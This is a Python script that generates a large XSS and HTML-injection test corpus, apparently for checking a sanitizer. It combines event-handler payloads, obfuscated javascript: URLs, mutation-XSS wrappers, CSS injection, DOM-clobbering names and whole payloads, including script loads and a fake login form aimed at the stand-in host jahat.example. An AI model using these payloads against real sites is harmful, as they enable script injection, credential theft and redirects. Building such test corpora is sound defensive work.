"""Write vectors.json: attempts to bring script, style or foreign requests into a text.

Made of parts (contexts, elements, schemes, encodings, mutations), so that every combination is
there and not only the known lists. Run `python tests/corpus/xss/make.py` after a change; a test
compares the file with what this makes.
"""

import json
from collections.abc import Iterator
from itertools import product
from pathlib import Path

TARGET = Path(__file__).with_name("vectors.json")
JS = "alert(1)"

EVENT_TAGS = (
    "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus",
    "details open", "marquee", "a href=/x", "p", "b", "strong", "em", "h2", "ul", "li",
    "blockquote", "figure data-foto=1", "figcaption", "table", "td", "th colspan=2", "br",
    "math", "object", "embed", "form", "button", "select autofocus", "textarea autofocus", "style",
    "link rel=stylesheet", "meta", "base", "div", "span", "xss", "x:y", "dialog open", "o:p",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onend",
    "onanimationstart", "ontransitionend", "onpointerrawupdate", "onbeforetoggle", "onscrollend",
    "oncontentvisibilityautostatechange", "onpageshow", "onwheel",
)  # fmt: skip
EVENT_FORMS = (
    "<{tag} {event}={js}>x",
    '<{tag} {event}="{js}">x',
    "<{tag} {event}='{js}'>x",
    "<{tag} {event}=`{js}`>x",
    "<{tag}/{event}={js}>x",
    "<{tag}\t{event}\n=\n{js}>x",
    "<{tag}\x0c{event}={js}>x",
    "<{tag} / / {event}={js} x",
    '<{tag} title="a>b" {event}={js}>x',
    "<{tag} a='\"' {event}={js}>x",
    '<{tag} a="\'" {event}="{js}">x',
    "<{tag} ={event}={js}>x",
    "<{tag} {event}\x0b={js}>x",
    "<{tag} x={event} {event}=&#97;lert(1)>x",
)

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)", "\u200bjavascript:alert(1)", "java\u200bscript:alert(1)",
    "java\x7fscript:alert(1)", "java&#x9;script:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)", "javascript&#x0000003a;alert(1)", "javascript&#0000000000058;x",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#x6aavascript:alert(1)",
    "&#106avascript:alert(1)", "&#0;javascript:alert(1)", "&#1;javascript:alert(1)",
    "java&#0;script:alert(1)", "java&shy;script:alert(1)", "javascript%3aalert(1)",
    "%6aavascript:alert(1)", "javascript://%0aalert(1)", "javascript://desa.id/%0aalert(1)",
    "javascript:/*--></script>*/alert(1)", "javascript:'<b>'", "javascript\u2236alert(1)",
    "\u212aavascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "DATA:text/html,x", "data&colon;x",
    "feed:javascript:alert(1)", "view-source:javascript:x", "jar:javascript:x", "blob:null/x",
    "filesystem:http://x/y", "file:///etc/passwd", "about:blank", "chrome://settings",
    "intent://x#Intent;end", "sms:1", "ws://x", "ftp://x/", "javascript:", "javascript",
    "//desa.example\\@jahat.example", "/\\jahat.example", "\\\\jahat.example", "/\t/jahat.example",
    "http:jahat.example", "https:\\\\jahat.example", "http://a:b@jahat.example/",
    "http://%6aahat.example", "https://[::1]/", "https://ja hat.example/",
    "https://x\"onclick=alert(1)", "https://x'onclick=alert(1)", "https://x`onclick=alert(1)",
    "https://x/><script>alert(1)</script>", "https://x/&quot;onclick=&quot;alert(1)",
    "https://x/&#34;&#62;&#60;script&#62;alert(1)", "mailto:a@b\"onclick=alert(1)",
    "tel:1\"onclick=alert(1)", "/x\"onclick=alert(1)", "?javascript:alert(1)", "#\"onclick=x",
)  # fmt: skip
URL_FORMS = (
    '<a href="{url}">x</a>',
    "<a href='{url}'>x</a>",
    "<a href={url}>x</a>",
    '<a HREF = "{url}" href="/baik">x</a>',
)
OTHER_URL_FORMS = (
    '<img src="{url}">', '<iframe src="{url}"></iframe>', '<form action="{url}"><input>',
    '<button formaction="{url}">x</button>', '<object data="{url}"></object>',
    '<embed src="{url}">', '<base href="{url}"><a href="x">x</a>', '<link rel="x" href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">', '<area href="{url}">',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>', '<svg><use href="{url}"/></svg>',
    '<math><mi xlink:href="{url}">x</mi></math>', '<math href="{url}">x</math>',
    '<video poster="{url}"></video>', '<body background="{url}">x', '<table background="{url}">x',
    '<td background="{url}">x', '<input type=image src="{url}">', '<blockquote cite="{url}">x',
    '<img srcset="{url} 1x">', '<img srcset="x 1x, {url} 2x">', '<source srcset="{url}">',
    '<img lowsrc="{url}">', '<img dynsrc="{url}">', '<applet codebase="{url}">',
    '<a href="/x" ping="{url}">x</a>', '<html manifest="{url}">', '<script src="{url}"></script>',
    '<style>@import "{url}";</style>', '<p style="background:url({url})">x',
    '<svg><animate attributeName=href values="{url}"/></svg>', '<isindex action="{url}">',
    '<svg><set attributeName=href to="{url}"/></svg>', '<frameset><frame src="{url}">',
    '<svg><image href="{url}"/></svg>', '<svg><script href="{url}"/></svg>',
    '<portal src="{url}"></portal>', '<a href="/x" target="{url}">x</a>',
    '<figure data-foto="{url}"><img src="{url}"></figure>', '[x]({url})', '[x](<{url}>)',
    '![x]({url})', '<{url}>', '[x][1]\n\n[1]: {url}', '![x](foto:{url})', '[x]({url} "t")',
)  # fmt: skip
FEW_URLS = (
    "javascript:alert(1)", "java&#x9;script:alert(1)", "data:text/html,<script>alert(1)</script>",
    "//jahat.example/x",
)  # fmt: skip

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script/x>", "<script>alert(1)",
    "<script src=//jahat.example/x.js></script>", "<script src=data:,alert(1)></script>",
    "<<script>alert(1)//<</script>", "<script>/*</script>*/alert(1)</script>",
    "<script><!--\nalert(1)</script>", "<script><!--<script>alert(1)</script>-->x</script>",
    "<script type=module>import '//jahat.example'</script>", "<script type=importmap>{}</script>",
    "<script type=text/vbscript>msgbox</script>", "<\x0bscript>alert(1)</script>",
    "<script>alert(1)</script foo='>'>", "</script><script>alert(1)</script>", "<script ",
    "<x><script>alert(1)</script></x>", "<!script>alert(1)</script>", "<?script>alert(1)</script>",
    "<%script>alert(1)</script>", "</ script>alert(1)</script>", "<script\u00a0>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞", "¼script¾alert(1)¼/script¾",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)",
    "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "&LT;script&GT;x",
    "&lt<script>alert(1)</script>", "<scri&#112;t>alert(1)</scri&#112;t>",
)  # fmt: skip
WRAPPERS = (
    "{x}", "<p>{x}</p>", "<!--{x}-->", "<!-- --!>{x}-->", "<!-->{x}-->", "<!--->{x}-->",
    "<![CDATA[{x}]]>", "<svg>{x}</svg>", "<math>{x}</math>", "<svg><style>{x}</style></svg>",
    "<svg><desc>{x}</desc></svg>", "<svg><foreignObject>{x}</foreignObject></svg>",
    "<svg><title>{x}</title></svg>", "<math><mtext>{x}</mtext></math>",
    "<math><annotation-xml encoding='text/html'>{x}</annotation-xml></math>",
    "<noscript>{x}</noscript>", "<noscript><p title='</noscript>{x}'></noscript>",
    "<style>{x}</style>", "<style><!--</style>{x}--></style>", "<textarea>{x}</textarea>",
    "<textarea></textarea>{x}", "<title>{x}</title>", "<title></title>{x}",
    "<xmp>{x}</xmp>", "<xmp></xmp>{x}", "<iframe>{x}</iframe>", "<iframe></iframe>{x}",
    "<noembed>{x}</noembed>", "<noframes>{x}</noframes>", "<plaintext>{x}", "<template>{x}",
    "<template shadowrootmode=open>{x}</template>", "<select><option>{x}</select>",
    "<select><style></select>{x}</style></select>", "<table>{x}</table>",
    "<table><tr>{x}<td>y</table>", "<table><caption>{x}</table>", "<table><colgroup>{x}</table>",
    "<figure data-foto=1>{x}</figure>", "<figure data-foto=1><figcaption>{x}</figcaption></figure>",
    "<ul>{x}<li>y</ul>", "<li>{x}", "<blockquote>{x}", "<h2>{x}</h2>", "<td>{x}", "<a href=/x>{x}",
    "<form><math><mtext></form><form><mglyph><style></math>{x}</style></mglyph></form>",
    "<math><mtext><table><mglyph><style><!--</style>{x}--></table></mtext></math>",
    "<svg></p><style><a id=\"</style>{x}\">", "<math></p><style><!--</style>{x}-->",
    "<p id='{x}'>y</p>", "<a title=\"{x}\">y</a>", "<img alt='{x}'>", "<a href='/{x}'>y</a>",
    "<figure data-foto='{x}'>y</figure>", "<td colspan='{x}'>y</td>", "<p {x}>y</p>",
    "<b><p></b>{x}", "<i><b></i>{x}</b>", "{x}<p style=\"mso-list:l0 level1 lfo1\">{x}",
    "<span style='mso-list:Ignore'>{x}</span>", "<!--[if gte mso 9]>{x}<![endif]-->",
    "<![if !supportLists]>{x}<![endif]>", "<o:p>{x}</o:p>", "<xml>{x}</xml>",
    "# {x}", "> {x}", "- {x}", "| a |\n| --- |\n| {x} |", "```\n{x}\n```", "`{x}`", "*{x}*",
    "**{x}", "_{x}_", "~{x}~", "    {x}", "[{x}](/y)", "![{x}](foto:1)", "[x]: /y '{x}'",
    "1. {x}", "\\{x}", "<div>\n\n{x}\n\n</div>", "• {x}", "https://desa.example/{x}",
)  # fmt: skip
CORES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", "' onmouseover='alert(1)",
    '<a href="javascript:alert(1)">x</a>', "</style><script>alert(1)</script>",
    "--><img src=x onerror=alert(1)>", "]]><img src=x onerror=alert(1)>",
)  # fmt: skip

STYLES = (
    "background:url(javascript:alert(1))", "background:url(//jahat.example/x)",
    "width:expression(alert(1))", "-moz-binding:url(//jahat.example/x)", "behavior:url(x.htc)",
    "position:fixed;top:0;left:0;width:100%;height:100%", "@import '//jahat.example'",
    "b\\61 ckground:url(//jahat.example)", "color:red;}</style><script>alert(1)</script>",
    "list-style:url(//jahat.example/x)", "content:url(//jahat.example/x)", "x:\x27;x:",
    "background:image-set('//jahat.example/x' 1x)", "cursor:url(//jahat.example/x),auto",
    "animation-name:x;", "--x:url(//jahat.example)", "filter:url(//jahat.example/x#y)",
)  # fmt: skip
CLOBBERS = (
    "attributes", "body", "children", "cookie", "createElement", "documentElement", "firstChild",
    "forms", "getElementById", "innerHTML", "location", "nodeName", "parentNode", "querySelector",
    "textContent", "URL", "__proto__", "constructor", "csrf_token", "submit", "action", "config",
)  # fmt: skip
WHOLE = (
    '<meta http-equiv="refresh" content="0;url=//jahat.example">', "<meta charset=utf-7>",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<base href="//jahat.example/">', "<link rel=stylesheet href=//jahat.example/x.css>",
    "<link rel=preload href=//jahat.example as=script>", "<link rel=dns-prefetch href=//j.example>",
    "<style>*{background:url(//jahat.example)}</style>", "<style>@import'//jahat.example'</style>",
    "<form action=//jahat.example><input name=sandi><button>Masuk</button></form>",
    "<input form=f formaction=javascript:alert(1) type=submit>", "<isindex type=image onerror=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe sandbox src=/kelola></iframe>",
    "<object type=text/html data=/kelola></object>", "<embed src=/x.swf allowscriptaccess=always>",
    "<applet code=x></applet>", "<bgsound src=javascript:alert(1)>", "<keygen autofocus onfocus=x>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1)>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>", "<svg><style>{font:url(//jahat.example)}</svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<a href=/x target=_blank rel=opener>x</a>", "<a href=/x download=x.exe>x</a>",
    "<a href=https://jahat.example rel=follow>x</a>", "<a href=https://jahat.example>x</a>",
    "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>", "<p slot=x is=x-y part=z>x</p>",
    "<x-y onclick=alert(1)>x</x-y>", "<p popover id=x>y</p><button popovertarget=x>z</button>",
    "<button commandfor=x command=show-modal>y</button>", "<p hx-get=/x hx-trigger=load>y</p>",
    "<p x-data x-init=alert(1)>y</p>", "<p v-html=x ng-app>{{constructor.constructor('x')()}}</p>",
    "{{7*7}}{% import os %}${7*7}<%= 7*7 %>", "<p data-src=javascript:alert(1) tabindex=1>x</p>",
    "<a name=x id=y class=z accesskey=x>y</a>", "<p lang=x dir=rtl itemscope>y</p>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "<?xml-stylesheet href=x?>y",
    "<?php echo 1 ?><%= system('x') %>", "<!--#exec cmd='id'-->", "<esi:include src=//j.example/>",
    "<p>😀<img src=x\u0000onerror=alert(1)>".replace("\u0000", "\ufffd"),
    "<figure data-foto='../../x'>y</figure>", "<figure data-foto='1\" onclick=\"x'>y</figure>",
    "<figure data-foto=1 onclick=x style=y id=z class=w><figcaption onclick=x>y</figure>",
    "<td colspan=999999999 rowspan=-1 width=1>x</td>", "<td colspan='2\"onclick=x'>y</td>",
    "<table><td rowspan=0x10 colspan=１２>x</table>", "<a href='/x' href='javascript:x'>y</a>",
    "<a href='javascript:x' href='/x'>y</a>", "<a\u2028href=javascript:x>y</a>", "<a href>y</a>",
    "<a href=\"/x\"onclick=\"alert(1)\">y</a>", "<a href=/x\u00a0onclick=alert(1)>y</a>",
    "<p/onclick=alert(1)>x</p>", "<br/onclick=alert(1)/>", "<br\tonclick=alert(1)>",
    "<ins onclick=x>a</ins><del cite=javascript:x>b</del>", "<h2 id=top name=x>y</h2>",
    "<p>a</p x=\"><script>alert(1)</script>\">", "<p a=\"<script>alert(1)</script>", "<a b='",
    "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img \"\"\"><script>alert(1)</script>\">",
    "<div style=\"display:none\"><a href=//slot.example>slot gacor</a></div>x", "<b x=&quot;>y</b>",
    "<p>\u202eevil\u202c</p>", "\x1b[31mx",
)  # fmt: skip


def vectors() -> list[str]:
    """Return all vectors, each once, in a fixed order."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from SCRIPTS
    yield from WHOLE
    for number, (tag, event) in enumerate(product(EVENT_TAGS, EVENTS)):
        if number % 3 == 0 or event == "onerror":
            form = EVENT_FORMS[number % len(EVENT_FORMS)]
            yield form.format(tag=tag, event=event, js=JS)
    for form, tag in product(EVENT_FORMS, ("img src=x", "svg", "a href=/x", "p")):
        yield form.format(tag=tag, event="onclick", js=JS)
    for form, url in product(URL_FORMS, SCHEMES):
        yield form.format(url=url)
    for url in SCHEMES:
        yield f"[x]({url})"
    for form, url in product(OTHER_URL_FORMS, FEW_URLS):
        yield form.format(url=url)
    for number, (wrapper, core) in enumerate(product(WRAPPERS, CORES)):
        if number % 2 == 0 or core == CORES[1]:
            yield wrapper.format(x=core)
    for style, tag in product(STYLES, ("p", "td", "figure data-foto=1", "a href=/x")):
        yield f'<{tag} style="{style}">x'
    for name in CLOBBERS:
        yield f"<a id={name} name={name} href=/x>x</a>"
        yield f"<form name={name}><input id={name}></form><h2 id='{name}'>x</h2>"


if __name__ == "__main__":
    TARGET.write_text(json.dumps(vectors(), ensure_ascii=True, indent=0) + "\n", encoding="ascii")
